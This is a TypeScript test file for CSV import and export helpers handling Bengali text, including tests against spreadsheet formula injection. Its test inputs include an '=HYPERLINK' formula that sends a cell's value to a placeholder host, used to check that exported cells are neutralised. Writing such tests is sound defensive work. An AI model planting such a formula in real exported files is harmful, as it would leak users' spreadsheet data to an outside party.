import * as contract from '@angan/shared/contract';
import type { AnyResource } from '@angan/shared/contract';
import { parse } from 'papaparse';
import { fieldsOf } from '../../resource/fields/form-fields.ts';
import { readCsv, writeCsv } from './csv.ts';
import { exportedTable, filePlan } from './file-columns.ts';

const isResource = (value: object): value is AnyResource => 'firstInFiles' in value;
const lists = Object.values(contract).filter(
  (value): value is AnyResource => typeof value === 'object' && isResource(value),
);

it('a CSV file writes what it can read again, under the mark that Excel needs', () => {
  const table = [
    ['নাম', 'ঠিকানা'],
    ['করিম "কাকা"', 'বাড়ি ১,\nমধুখালী'],
  ];
  const text = writeCsv(table);
  expect(text).toBe('\ufeffনাম,ঠিকানা\r\n"করিম ""কাকা""","বাড়ি ১,\nমধুখালী"\r\n');
  expect(readCsv(text)).toEqual(table);
});

it.each([
  '=1+1',
  '+8801712345678',
  '-5',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '\uff1d1+1',
  // A parser's pattern that ends at the first line lets this one through.
  '=HYPERLINK("http://x.example/?"&B2,\n"open")',
])('a CSV file makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
  expect(writeCsv([[cell]])).toContain(`'${cell.replaceAll('"', '""')}`);
  expect(readCsv(writeCsv([[cell, 'ঠিক']]))).toEqual([[cell, 'ঠিক']]);
});

const FORMULA = '=HYPERLINK("http://a.example/?"&B2,\n"open")';

it.each(lists.map((list) => [list.path, list] as const))(
  'a CSV file exports no live formula of %s, whichever field holds it',
  (_path, list) => {
    const plan = filePlan(list, fieldsOf(list));
    const row = Object.fromEntries(plan.columns.map(({ name }) => [name, FORMULA]));
    const table = exportedTable(plan, [row]);
    const { data } = parse<string[]>(writeCsv(table).trimEnd());
    expect(data[1]).toEqual(plan.columns.map(() => `'${FORMULA}`));
    expect(readCsv(writeCsv(table))).toEqual(table);
  },
);

it('a CSV file reads semicolons and tabs, any line end, and a last line without one', () => {
  expect(readCsv('ক;খ\r১;২\r৩;৪')).toEqual([
    ['ক', 'খ'],
    ['১', '২'],
    ['৩', '৪'],
  ]);
  expect(readCsv('ক\tখ\r\n১\t২\r\n')).toEqual([
    ['ক', 'খ'],
    ['১', '২'],
  ]);
});

it('a CSV file takes the separator of the table for that of the file, not one of a title above it', () => {
  expect(readCsv('কলেজ, যশোর\nনাম;রোল;শ্রেণি\nক;১;৬')).toEqual([
    ['কলেজ, যশোর'],
    ['নাম', 'রোল', 'শ্রেণি'],
    ['ক', '১', '৬'],
  ]);
});

it('a CSV file reads an empty file as no rows', () => {
  expect(readCsv('')).toEqual([]);
});
